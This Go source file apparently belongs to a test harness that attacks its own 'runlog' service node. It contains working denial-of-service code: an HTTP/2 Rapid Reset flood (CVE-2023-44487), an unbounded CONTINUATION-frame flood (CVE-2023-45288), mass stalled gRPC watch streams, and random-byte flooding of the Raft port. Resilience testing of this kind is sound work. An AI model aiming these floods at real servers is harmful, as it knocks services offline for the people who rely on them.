package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	runlogv1 "runlog/proto/runlog/v1"
)

// rawCall calls AppendEvents with a body that is framed already, over a connection of its own.
func rawCall(ctx context.Context, n *node, body io.Reader, encoding string, got *answers) {
	protocols := new(http.Protocols)
	protocols.SetUnencryptedHTTP2(true)
	t := &http.Transport{Protocols: protocols}
	defer t.CloseIdleConnections()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+n.addresses.GRPC+runlogv1.EventService_AppendEvents_FullMethodName, body)
	if err != nil {
		got.told(err.Error())
		return
	}
	req.Header.Set("Content-Type", "application/grpc")
	req.Header.Set("Te", "trailers")
	if encoding != "" {
		req.Header.Set("Grpc-Encoding", encoding)
	}
	res, err := t.RoundTrip(req)
	if err != nil {
		got.told("broken")
		return
	}
	_, _ = io.Copy(io.Discard, res.Body)
	_ = res.Body.Close()
	status := res.Header.Get("Grpc-Status")
	if status == "" {
		status = res.Trailer.Get("Grpc-Status")
	}
	got.told("status " + status)
}

// frames is an HTTP/2 connection whose frames are written one by one.
type frames struct {
	*http2.Framer
	block bytes.Buffer
	hpack *hpack.Encoder
	next  uint32 // stream
}

// openFrames begins a connection on which the node may send nothing but headers.
func openFrames(conn net.Conn) (*frames, error) {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	f := &frames{Framer: http2.NewFramer(conn, conn), next: 1}
	f.hpack = hpack.NewEncoder(&f.block)
	return f, f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
}

// call begins a call of a method, with its message if there is one.
func (f *frames) call(method string, message proto.Message) (stream uint32, err error) {
	stream = f.next
	f.next += 2
	f.block.Reset()
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "x"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		if err := f.hpack.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
			return 0, err
		}
	}
	err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.block.Bytes(), EndHeaders: true})
	if err != nil || message == nil {
		return stream, err
	}
	wire, err := proto.Marshal(message)
	if err != nil {
		return stream, err
	}
	return stream, f.WriteData(stream, true, append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(wire))), wire...))
}

// discard reads what the node sends.
func discard(conn net.Conn) { go func() { _, _ = io.Copy(io.Discard, conn) }() }

// resetPause leaves the node a processor on a machine that it shares with the attackers.
const resetPause = time.Millisecond

// rapidReset begins calls and cancels each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, n *node, got *answers) {
	req := &runlogv1.ReadEventsRequest{RunId: "read"}
	connect(ctx, n.addresses.GRPC, 10, got, func(conn net.Conn) {
		discard(conn)
		f, err := openFrames(conn)
		for err == nil && ctx.Err() == nil {
			var stream uint32
			if stream, err = f.call(runlogv1.EventService_ReadEvents_FullMethodName, req); err == nil {
				err = f.WriteRSTStream(stream, http2.ErrCodeCancel)
			}
			time.Sleep(resetPause)
		}
	})
}

// stuckWatches open streams that may send nothing, and that heartbeats and changes fill.
func stuckWatches(ctx context.Context, n *node, got *answers) {
	req := &runlogv1.WatchRunRequest{RunId: "good"}
	connect(ctx, n.addresses.GRPC, 10, got, func(conn net.Conn) {
		discard(conn)
		f, err := openFrames(conn)
		for i := 0; err == nil && i < 2000; i++ {
			_, err = f.call(runlogv1.ProjectionService_WatchRun_FullMethodName, req)
		}
		if err == nil {
			linger(ctx, conn)
		}
	})
}

// continuations send headers without an end (CVE-2023-45288).
func continuations(ctx context.Context, n *node, got *answers) { flood(ctx, n.addresses.GRPC, got) }

func memberContinuations(ctx context.Context, n *node, got *answers) {
	flood(ctx, n.addresses.Raft, got)
}

func flood(ctx context.Context, address string, got *answers) {
	connect(ctx, address, 50, got, func(conn net.Conn) {
		discard(conn)
		f, err := openFrames(conn)
		if err != nil {
			return
		}
		err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: nil})
		for i := 0; err == nil && ctx.Err() == nil; i++ {
			f.block.Reset()
			// Each name is new: one that the table has would be short.
			_ = f.hpack.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: string(bytes.Repeat([]byte("a"), 8<<10)), Sensitive: true})
			err = f.WriteContinuation(1, false, f.block.Bytes())
		}
	})
}

// memberNoise sends random bytes, and the beginning of a very large message.
func memberNoise(ctx context.Context, n *node, got *answers) {
	noise := make([]byte, 1<<20)
	_, _ = rand.Read(noise) // It never fails.
	connect(ctx, n.addresses.Raft, 100, got, func(conn net.Conn) {
		for ctx.Err() == nil {
			if _, err := conn.Write(noise); err != nil {
				return
			}
		}
	})
}
